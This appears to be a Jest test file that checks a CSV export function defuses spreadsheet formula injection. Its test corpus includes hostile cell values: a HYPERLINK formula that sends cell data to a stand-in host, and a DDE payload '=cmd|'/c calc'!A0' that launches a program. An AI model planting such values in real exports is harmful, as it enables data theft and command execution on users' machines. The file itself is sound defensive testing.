import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { csvCell, csvLine } from '../../src/views/csv.js';

/** Corpus G: cells that spreadsheet programs run as a formula. */
const formulas = [
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '"=1"',
  '\uff1d1+1',
  '=HYPERLINK("http://x?"&A1)',
  ';=1',
];

/** What a spreadsheet program sees in a cell: quotes taken off. */
function contentOf(cell: string): string {
  return cell.slice(1, -1).replaceAll('""', '"');
}

describe('a CSV cell', () => {
  test.each(formulas)('never begins as the formula %j', (formula) => {
    expect(contentOf(csvCell(formula))).toMatch(/^'/);
  });

  test('leaves text that is no formula as it is', () => {
    expect(csvCell('contoso.com')).toBe('"contoso.com"');
    expect(csvCell('CN="a", b=c')).toBe('"CN=""a"", b=c"');
  });

  test('is a number or nothing where the value is one', () => {
    expect(csvLine([-1, null, 'a'])).toBe('-1,,"a"\r\n');
  });

  test('has no line of its own for the second line of a text', () => {
    expect(csvCell("safe\n=cmd|'/c calc'!A0")).toBe('"safe\\n=cmd|\'/c calc\'!A0"');
  });

  test('keeps one record on one line, without controls and with balanced quotes, whatever the text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const cell = csvCell(text);
        expect(cell).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
        expect(cell).toMatch(/^"(?:[^"]|"")*"$/u);
        expect(contentOf(cell).normalize('NFKC')).not.toMatch(/^\s*[=+\-@]/u);
      }),
    );
  });
});
